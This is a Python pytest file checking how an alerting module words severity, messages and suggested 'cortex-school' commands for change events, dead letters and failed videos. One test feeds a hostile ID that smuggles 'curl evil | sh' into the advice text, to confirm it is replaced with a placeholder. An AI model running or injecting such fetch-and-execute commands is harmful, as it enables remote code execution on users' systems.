"""What a person is told: severity, words, and what to type next."""

from typing import Any

import pytest

from eventing.contracts import (
    PREFIX,
    AlertRaised,
    ImprovementEnded,
    ImprovementPendingReview,
    ImprovementWatched,
    VideoFailed,
    WatchArmed,
)
from eventing.handler import Event
from functions._improvement.dead_letter import DeadLetter
from functions.alerting.wording import Alert, alert_of, alert_of_letter, fingerprint

OF_I = fingerprint("improvement", "i")


def event(kind: str, payload: Any) -> Event:
    return Event(PREFIX + kind, "/s", "1", payload)


@pytest.mark.parametrize(
    ("kind", "payload", "severity", "title", "message", "advice", "over"),
    [
        (
            "improvement.pending_review",
            ImprovementPendingReview("i", "con{flict}", "two values.", "d"),
            "warning",
            "A change needs a person: con{flict}",
            "two values.",
            "`cortex-school review` shows the plan; `cortex-school approve i` or `reject` it.",
            False,
        ),
        (
            "improvement.pending_review",
            ImprovementPendingReview("i", "not planned", "no such object."),
            "warning",
            "A change needs a person: not planned",
            "no such object.",
            "There is no plan to approve: change Git yourself if you must, then `cortex-school reject i`.",
            False,
        ),
        (
            "improvement.rejected",
            ImprovementEnded("i", "duplicate", "it is there."),
            "info",
            "An improvement was turned down: duplicate",
            "it is there.",
            "",
            True,
        ),
        (
            "improvement.failed",
            ImprovementEnded("i", "git away", "the plan is kept."),
            "warning",
            "An improvement failed: git away",
            "the plan is kept.",
            "`cortex-school explain i` shows how it came to that.",
            False,
        ),
        (
            "improvement.verified",
            ImprovementWatched("i", "c", "300 s healthy."),
            "info",
            "A change is verified",
            "300 s healthy.",
            "",
            True,
        ),
        (
            "improvement.rolled_back",
            ImprovementWatched("i", "c", "reverted."),
            "warning",
            "A change was rolled back, and the cluster is healthy again",
            "reverted.",
            "",
            True,
        ),
        (
            "improvement.unverified",
            ImprovementWatched("i", "c", "no samples."),
            "critical",
            "A change could not be verified",
            "no samples.",
            "Look at it, then `cortex-school resolve i verify` or `cortex-school resolve i rollback`.",
            False,
        ),
    ],
)
def test_each_outcome_has_its_words(
    kind: str, payload: Any, severity: Any, title: str, message: str, advice: str, over: bool
) -> None:
    expected = Alert(OF_I, severity, title, message, title, "", "i", "changes", over, advice=advice)
    assert alert_of(event(kind, payload)) == expected


def test_a_raised_alert_keeps_its_own_words() -> None:
    raised = AlertRaised("f", "critical", "t", "m", "app", "i")
    expected = Alert("f", "critical", "t", "m", "critical: t", "app", "i", "changes")
    assert alert_of(event("alert.raised", raised)) == expected


@pytest.mark.parametrize(
    ("given", "fault", "over"),
    [
        (AlertRaised("rollbacks", "critical", "frozen", "m"), "rollbacks", False),
        (AlertRaised("rollbacks", "info", "on again", "m"), "rollbacks", True),  # the same fault, and its end
        (AlertRaised("improvements:raw:17-0", "warning", "t", "m"), "improvements", False),
        (AlertRaised(fingerprint("outbox", "s", "1"), "warning", "An event was lost", "m"), "An event was lost", False),
        (AlertRaised(fingerprint("x"), "warning", "stalled", "m", "shop", "i"), "changes", False),
    ],
)
def test_alerts_of_one_kind_are_one_fault(given: AlertRaised, fault: str, over: bool) -> None:
    alert = alert_of(event("alert.raised", given))
    assert alert is not None
    assert (alert.fault, alert.over) == (fault, over)


def test_an_id_from_outside_gets_no_word_into_the_advice() -> None:
    hostile = ImprovementWatched("i`; curl evil | sh #", "c", "m")
    alert = alert_of(event("improvement.unverified", hostile))
    assert alert is not None
    assert alert.advice == "Look at it, then `cortex-school resolve ID verify` or `cortex-school resolve ID rollback`."


def test_a_failed_video_says_reason_and_advice() -> None:
    failed = VideoFailed("https://v", "blocked", "the address is blocked.", "Try later.")
    assert alert_of(event("video.failed", failed)) == Alert(
        fingerprint("video", "https://v"),
        "warning",
        "A video taught nothing: blocked",
        "the address is blocked. Try later.",
        "blocked",
        fault="video",
        about="https://v",
    )
    short = VideoFailed("https://v", "blocked", "the address is blocked.")
    assert getattr(alert_of(event("video.failed", short)), "message", "") == "the address is blocked."


def test_nobody_is_told_of_anything_else() -> None:
    assert alert_of(event("watch.armed", WatchArmed("i", "d", "a"))) is None


def test_dead_letters_of_one_type_that_failed_in_one_way_are_one_thing() -> None:
    letter = DeadLetter("/s", "1", "t", "now", causes={"a": "no url", "b": "answered 503"})
    alert = alert_of_letter(letter)
    assert alert.title == "Nobody could handle a t"
    assert alert.message == "a: no url; b: answered 503. First seen with event 1."
    assert alert.advice.startswith("`cortex-school dead-letters list` has them all")
    assert alert.fault == "dead letter t"
    assert alert.fingerprint == fingerprint("dead-letter", "t", "a: no url; b: answered 503")
    assert (alert.severity, alert.state) == ("warning", "a: no url; b: answered 503")
    for other, same in (
        (DeadLetter("/s", "2", "t", "later", causes=letter.causes), True),
        (DeadLetter("/s", "1", "u", "now", causes=letter.causes), False),
        (DeadLetter("/s", "1", "t", "now", causes={"a": "no url"}), False),
    ):
        assert (alert_of_letter(other).fingerprint == alert.fingerprint) is same


def test_fingerprints_are_short_and_depend_on_every_part() -> None:
    assert fingerprint("a", "b") == "7e18f737311b2dc3b2f269dd78396b03"
    assert fingerprint("a", "b") != fingerprint("ab", "") != fingerprint("a", "b", "")
